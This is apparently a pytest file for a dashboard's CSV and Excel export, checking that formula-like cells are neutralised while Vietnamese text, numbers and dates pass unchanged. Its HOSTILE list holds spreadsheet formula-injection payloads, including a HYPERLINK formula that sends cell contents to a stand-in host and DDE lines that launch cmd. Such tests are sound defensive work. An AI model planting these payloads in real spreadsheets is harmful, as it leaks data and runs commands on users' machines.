"""Downloads stay data: text that a spreadsheet would run as a formula is neutralized in CSV and kept as text in
Excel; numbers, dates and ordinary text come through unchanged."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dashboard import spreadsheets

HOSTILE = [
    '=HYPERLINK("http://host/?leak="&A1, "bấm vào đây")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C notepad'!'A1'",
]


def table(values) -> pd.DataFrame:
    return pd.DataFrame({"text": values, "kwh": [1.5] * len(values), "n": [-3] * len(values)})


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_look_like_formulas_get_an_apostrophe(value):
    rows = read_csv(spreadsheets.csv_bytes(table([value])))
    assert rows[1][0] == "'" + value
    assert rows[1][1:] == ["1.5", "-3"]  # numbers are numbers, a negative one included


@pytest.mark.parametrize("value", HOSTILE)
def test_excel_cells_that_look_like_formulas_stay_text(value):
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.excel_bytes(table([value]), "sql")))
    sheet = book["sql"]
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")  # XML reads a CR back as LF
    assert sheet.cell(row=2, column=2).value == 1.5 and sheet.cell(row=2, column=3).value == -3
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("value", ["Điện lực Tuy Hòa", "a=b", "2020-08", "", None, "Sông Cầu - Đông Hòa"])
def test_ordinary_text_is_unchanged(value):
    rows = read_csv(spreadsheets.csv_bytes(table([value])))
    assert rows[1][0] == ("" if value is None else value)


def test_a_column_name_that_looks_like_a_formula_is_neutralized_too():
    df = pd.DataFrame({"=1+1": ["x"], "ok": [1]})
    assert read_csv(spreadsheets.csv_bytes(df))[0] == ["'=1+1", "ok"]
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.excel_bytes(df))).active
    assert sheet.cell(row=1, column=1).data_type == "s" and sheet.cell(row=1, column=1).value == "=1+1"


def test_dates_and_time_zones_survive_the_excel_file():
    df = pd.DataFrame({"period": pd.to_datetime(["2020-08-01"]),
                       "built_at": pd.to_datetime(["2020-08-02 10:00"]).tz_localize("Asia/Ho_Chi_Minh")})
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.excel_bytes(df))).active
    assert sheet.cell(row=2, column=1).value.date().isoformat() == "2020-08-01"
    assert sheet.cell(row=2, column=2).value.hour == 10
